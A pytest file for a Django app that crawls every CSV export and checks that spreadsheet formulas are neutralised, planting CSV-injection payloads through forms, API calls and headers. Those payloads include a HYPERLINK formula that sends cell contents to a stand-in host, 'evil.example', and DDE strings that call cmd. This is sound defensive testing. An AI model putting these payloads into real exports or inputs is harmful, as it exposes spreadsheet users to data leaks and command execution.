"""Every CSV export is safe to open in a spreadsheet: no cell starts with ``=``, ``+``, ``-``, ``@``, tab or CR.

The exports are found, not listed: every page of the URLconf (its ids filled with the
organization's rows, each answer's links followed one hop, and ``?format=csv`` tried on each),
every GET operation of the OpenAPI schema (asked with ``Accept: text/csv`` first), every action of
every ModelAdmin in the admin registry (run on all its rows, as a manager and as a superuser).
Whatever answers CSV is read cell by cell. A new export is checked the day it is added.

Formulas are planted twice: first through the doors people use (the texted person's unsubscribe
POST with its User-Agent and no login, an agent's notes on the card, an API key's evidence, names
a manager gives users and keys; ``"\\t=1+1"``, whose tab the form strips), then in every free
text column of every row of the project's models, so a column added to an export tomorrow is
covered too.
"""

from __future__ import annotations

import ast
import csv
import io
import itertools
import json
import re
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import urljoin, urlsplit

import pytest
from django.apps import apps
from django.contrib import admin
from django.contrib.auth import get_user_model
from django.core.cache import cache
from django.core.exceptions import ValidationError
from django.db import DatabaseError, models, transaction
from django.test import Client
from django.urls import URLPattern, URLResolver, get_resolver, resolve
from django.urls.exceptions import Resolver404
from phonenumber_field.modelfields import PhoneNumberField

from integrations.services import api_key_create
from interactions.models import Membership
from messaging.models import UnsubscribeLink
from messaging.services import unsubscribe_link_get_or_create
from tests.factories import MembershipFactory, PhoneNumberFactory

pytestmark = pytest.mark.django_db

ROOT = Path(__file__).resolve().parents[2]
PROJECT_APPS = ("core", "interactions", "messaging", "workflows", "integrations", "ops")


def _project_models() -> list[type[models.Model]]:
    return [
        model
        for config in apps.get_app_configs()
        if config.name.split(".")[0] in PROJECT_APPS
        for model in config.get_models()
    ]


# What a spreadsheet runs as a formula (OWASP "CSV Injection"); the test's own list, not the writer's.
FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r")
HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click to verify")'
DDE = "@SUM(1+9)*cmd|' /C calc'!A0"


class Exports:
    """Sends requests (each in a rolled-back savepoint) and reads every CSV answer."""

    def __init__(self) -> None:
        self.sent = 0
        self.log: list[str] = []
        self.found: dict[str, list[list[str]]] = {}  # "METHOD url [how]" -> rows

    def __call__(self, client: Client, method: str, url: str, how: str, **kwargs):
        cache.clear()  # the API's rate limit counts in the cache
        with transaction.atomic():
            response = getattr(client, method)(url, **kwargs)
            transaction.set_rollback(True)
        self.sent += 1
        self.log.append(f"{method} {how} {url}")
        disposition = response.get("Content-Disposition", "")
        if "csv" in response.get("Content-Type", "") or ".csv" in disposition:
            body = b"".join(response.streaming_content) if response.streaming else response.content
            rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))
            self.found[f"{method.upper()} {url} [{how}]"] = rows
        return response

    def formula_cells(self) -> list[str]:
        return [
            f"{where}: row {n} {cell!r}"
            for where, rows in self.found.items()
            for n, row in enumerate(rows)
            for cell in row
            if cell.startswith(FORMULA_LEADS)
        ]

    def cells(self) -> set[str]:
        return {cell for rows in self.found.values() for row in rows for cell in row}


# --- finding the exports ---------------------------------------------------------------------------------


def _routes(patterns, prefix: str = "") -> Iterator[tuple[str, URLPattern]]:
    for pattern in patterns:
        if isinstance(pattern, URLResolver):
            yield from _routes(pattern.url_patterns, prefix + str(pattern.pattern))
        else:
            yield prefix + str(pattern.pattern), pattern


REGEX_GROUP = re.compile(r"\(\?P<(\w+)>[^)]*\)")
CONVERTER = re.compile(r"<(?:\w+:)?(\w+)>")


def _parameters(route: str) -> list[str]:
    return REGEX_GROUP.findall(route) + CONVERTER.findall(REGEX_GROUP.sub("", route))


def _fill(route: str, values: dict[str, str]) -> str:
    route = REGEX_GROUP.sub(lambda m: values[m.group(1)], route)
    route = CONVERTER.sub(lambda m: values[m.group(1)], route)
    return "/" + route.replace("^", "").replace("$", "").replace("/?", "/")


def _candidates(name: str, route: str, world: dict) -> list[str]:
    """Values for a URL parameter: every id of the organization's rows, its tokens, the kinds of person."""
    if name == "token":
        return list(UnsubscribeLink.objects.values_list("token", flat=True))
    if name == "kind":
        return ["lead", "customer", "leads", "customers"]
    if name == "pk" or name.endswith("_id"):
        return world["ids"]()
    pytest.fail(f"the CSV net does not know how to fill <{name}> of {route}: teach _candidates()")


def _same_site_links(html: str, base: str) -> list[str]:
    links = []
    for href in re.findall(r'\bhref="([^"#]+)"', html):
        url = urljoin(base, href.replace("&amp;", "&"))
        parts = urlsplit(url)
        if parts.netloc and parts.netloc != "testserver":
            continue
        if parts.path.endswith("/logout/") or parts.path.startswith("/static/"):
            continue
        try:
            resolve(parts.path)
        except Resolver404:
            continue
        links.append(parts.path + (f"?{parts.query}" if parts.query else ""))
    return links


def _first_answer(send: Exports, client: Client, urls: Iterator[str], how: str) -> str | None:
    """GET each of ``urls`` until one answers 200 (ids of the kind of row the view shows); that URL."""
    for url in urls:
        if send(client, "get", url, how).status_code == 200:
            return url
    return None


def _follow_links(send: Exports, client: Client, url: str, visited: set[str]) -> None:
    response = send(client, "get", url, "URLconf")
    if response.status_code == 200 and "text/html" in response.get("Content-Type", ""):
        for link in _same_site_links(response.content.decode(), url):
            if link not in visited and not link.startswith("/admin/"):
                visited.add(link)
                send(client, "get", link, f"link on {url}")


def _walk_pages(send: Exports, client: Client, world: dict) -> None:
    visited: set[str] = set()
    for route, _pattern in _routes(get_resolver().url_patterns):
        if route.startswith(("admin/", "api/", "static/", "media/")):
            continue  # the admin and the API are walked from their registry and their schema
        names = _parameters(route)
        candidates = itertools.product(*(_candidates(name, route, world) for name in names))
        urls = (_fill(route, dict(zip(names, values, strict=True))) for values in candidates)
        # A route that refuses GET refuses it whatever the ids: ask once with a dummy first.
        if names and send(client, "get", _fill(route, dict.fromkeys(names, "1")), "probe").status_code == 405:
            continue
        url = _first_answer(send, client, urls, "URLconf")
        if url is not None:
            visited |= {url, f"{url}?format=csv"}
            _follow_links(send, client, url, visited)
            send(client, "get", f"{url}?format=csv", "?format=csv")


def _walk_api(send: Exports, client: Client, world: dict) -> None:
    schema = json.loads(send(client, "get", "/api/schema/", "schema", data={"format": "json"}).content)
    for path, operations in schema["paths"].items():
        operation = operations.get("get")
        if operation is None:
            continue
        query = {}
        for parameter in operation.get("parameters", []):
            if parameter.get("in") == "query" and parameter.get("required"):
                if parameter["name"] != "number":
                    pytest.fail(f"the CSV net does not know how to fill ?{parameter['name']} of {path}")
                query["number"] = world["phone"].number.as_e164
        ids = world["ids"]() if "{" in path else [""]
        for pk in ids:
            url = re.sub(r"\{[^}]+\}", str(pk), path)
            answer = send(client, "get", url, "schema", data=query, HTTP_ACCEPT="text/csv, application/json;q=0.9")
            if answer.status_code == 200:
                break


def _registered_admins() -> Iterator[tuple[type[models.Model], admin.ModelAdmin]]:
    for model in apps.get_models():
        if admin.site.is_registered(model):
            yield model, admin.site.get_model_admin(model)


def _walk_admin(send: Exports, client: Client) -> None:
    visited: set[str] = set()
    for model, model_admin in _registered_admins():
        info = model._meta.app_label, model._meta.model_name
        changelist = f"/admin/{info[0]}/{info[1]}/"
        response = send(client, "get", changelist, "changelist")
        if response.status_code != 200:
            continue
        request = response.wsgi_request
        pks = [str(pk) for pk in model_admin.get_queryset(request).values_list("pk", flat=True)]
        for pk in pks[:1]:
            page = send(client, "get", f"{changelist}{pk}/change/", "change page")
            if page.status_code == 200:
                for link in _same_site_links(page.content.decode(), f"{changelist}{pk}/change/"):
                    if link not in visited:
                        visited.add(link)
                        send(client, "get", link, f"link on {changelist}{pk}/change/")
        for action in model_admin.get_actions(request):
            send(client, "post", changelist, f"action {action}", data={"action": action, "_selected_action": pks})


def _find_exports(world: dict) -> Exports:
    send = Exports()
    manager, root = Client(raise_request_exception=False), Client(raise_request_exception=False)
    manager.force_login(world["manager"])
    root.force_login(world["root"])
    _walk_pages(send, manager, world)
    _walk_api(send, manager, world)
    _walk_admin(send, manager)
    _walk_admin(send, root)
    return send


# --- planting formulas ---------------------------------------------------------------------------------


def _plant_through_the_doors(world: dict) -> set[str]:
    """Formulas through the doors people use; returns the cells the exports must then show."""
    phone = world["phone"]
    agent = Client()
    agent.force_login(world["agent"])
    key = world["api_key"]
    api = Client(HTTP_AUTHORIZATION=f"Token {key}")
    number = phone.number.as_e164

    granted = api.post(
        "/api/v1/consent/",
        {"phone_number": number, "action": "grant", "evidence": DDE},
        content_type="application/json",
        HTTP_USER_AGENT="-2+3+cmd|' /C calc'!A0",
    )
    assert granted.status_code == 201, granted.content
    opted_out = agent.post(f"/text/consent/{phone.pk}/opt-out/", {"note": "\r=1+1"}, HTTP_USER_AGENT="=1+1")
    regranted = agent.post(f"/text/consent/{phone.pk}/", {"note": "\t=1+1"}, HTTP_USER_AGENT="+1+1")
    revoked = api.post(
        "/api/v1/consent/",
        {"phone_number": number, "action": "revoke", "evidence": "\t=2+2"},
        content_type="application/json",
        HTTP_USER_AGENT="\t=3+3",
    )
    regranted_by_key = api.post(
        "/api/v1/consent/",
        {"phone_number": number, "action": "grant", "evidence": "+SUM(A1:A9)"},
        content_type="application/json",
    )
    assert (opted_out.status_code, regranted.status_code) == (302, 302)
    assert (revoked.status_code, regranted_by_key.status_code) == (201, 201), revoked.content
    # The texted person, from the link in a text: no login, their browser's User-Agent recorded.
    link = unsubscribe_link_get_or_create(organization=phone.organization, number=phone.number)
    person = Client().post(f"/u/{link.token}", HTTP_USER_AGENT=HYPERLINK)
    assert person.status_code == 200
    # Each planted value as it must arrive: stripped where a form or serializer strips, then neutralised.
    return {
        "'" + DDE,
        "'-2+3+cmd|' /C calc'!A0",
        "'=1+1",  # "\r=1+1" and "\t=1+1" after the card's strip
        "'+1+1",
        "'=2+2",  # the API's evidence "\t=2+2" after the serializer's trim
        "'\t=3+3",  # a User-Agent is kept as sent
        "'+SUM(A1:A9)",
        "'" + HYPERLINK,
        "'=Formula Agent",  # the agent's name as a manager typed it
        "'-PMS sync",  # the API key's name
    }


def _text_fields(model: type[models.Model]) -> list[models.Field]:
    return [
        field
        for field in model._meta.concrete_fields
        if isinstance(field, models.CharField | models.TextField)
        and not isinstance(field, PhoneNumberField)
        and not field.primary_key
        and not field.choices
        and field.name != "password"  # a hash, never text anyone reads back
    ]


def _plant_everywhere() -> set[str]:
    """A distinct formula in every free text column of every row of the project's models and users."""
    planted: set[str] = set()
    counter = itertools.count(1)
    for model in [*_project_models(), get_user_model()]:
        for field in _text_fields(model):
            for pk in model._default_manager.values_list("pk", flat=True):
                value = f"=C{next(counter)}+1"
                if field.max_length:
                    value = value[: field.max_length]
                try:
                    field.run_validators(value)
                except ValidationError:
                    break  # a column of codes (a time zone, an e-mail address): no formula passes its check
                try:
                    with transaction.atomic():
                        model._default_manager.filter(pk=pk).update(**{field.attname: value})
                except DatabaseError:
                    continue  # a unique column that a shortened value would repeat
                planted.add(value)
    return planted


@pytest.fixture
def world(org, facility, open_all_day):
    manager = MembershipFactory(organization=org, role=Membership.Role.MANAGER, user__username="csv-manager").user
    agent = MembershipFactory(
        organization=org, role=Membership.Role.AGENT, user__username="csv-agent", user__first_name="=Formula"
    ).user
    root = get_user_model().objects.create_superuser("csv-root", "root@example.com", "pw-12345!x")
    _, key = api_key_create(organization=org, name="-PMS sync", role=Membership.Role.MANAGER, created_by=manager)
    phone = PhoneNumberFactory(lead__facility=facility, number="+15125550142")

    def ids() -> list[str]:
        """Every id of the organization's rows (models of the project with an organization)."""
        found: set[int] = set()
        for model in _project_models():
            if any(f.name == "organization" for f in model._meta.concrete_fields):
                found |= set(model._default_manager.filter(organization=org).values_list("pk", flat=True))
        return sorted(str(pk) for pk in found)

    return {"manager": manager, "agent": agent, "root": root, "api_key": key, "phone": phone, "ids": ids}


def _report(capsys, name: str, found: Exports) -> None:
    with capsys.disabled():
        exports = sorted({key.split(" [")[0] for key in found.found})
        print(f"\n{name}: {found.sent} requests, {len(found.found)} CSV answers from {', '.join(exports)}")


def test_formulas_people_type_reach_every_export_neutralised(world, capsys):
    expected = _plant_through_the_doors(world)

    found = _find_exports(world)

    _report(capsys, "csv exports (planted through the doors)", found)
    assert found.found, "no export answered CSV: the walk is broken"
    assert found.formula_cells() == []
    missing = expected - found.cells()
    assert not missing, f"planted values never reached an export: {sorted(missing)}"


def test_a_formula_in_any_text_column_is_neutralised_in_every_export(world, capsys):
    _plant_through_the_doors(world)
    planted = {"'" + value for value in _plant_everywhere()}

    found = _find_exports(world)

    _report(capsys, "csv exports (planted in every text column)", found)
    assert found.found, "no export answered CSV: the walk is broken"
    assert found.formula_cells() == []
    for where, rows in found.found.items():
        assert {cell for row in rows[1:] for cell in row} & planted, f"{where}: no planted text reached it"


def test_only_core_csv_writes_csv():
    """Every export goes through ``core.csv`` (the one neutralising writer): no other module builds a CSV writer."""
    writers = []
    for package in (*PROJECT_APPS, "config"):
        for path in (ROOT / package).rglob("*.py"):
            if path == ROOT / "core" / "csv.py" or "migrations" in path.parts:
                continue
            for node in ast.walk(ast.parse(path.read_text(), str(path))):
                builds = (
                    isinstance(node, ast.Attribute)
                    and node.attr in ("writer", "DictWriter")
                    and isinstance(node.value, ast.Name)
                    and node.value.id == "csv"
                ) or (
                    isinstance(node, ast.ImportFrom)
                    and node.module == "csv"
                    and bool({alias.name for alias in node.names} & {"writer", "DictWriter"})
                )
                if builds:
                    writers.append(f"{path.relative_to(ROOT)}:{node.lineno}")
    assert writers == [], "write CSV through core.csv (csv_response, SafeWriter): " + ", ".join(writers)
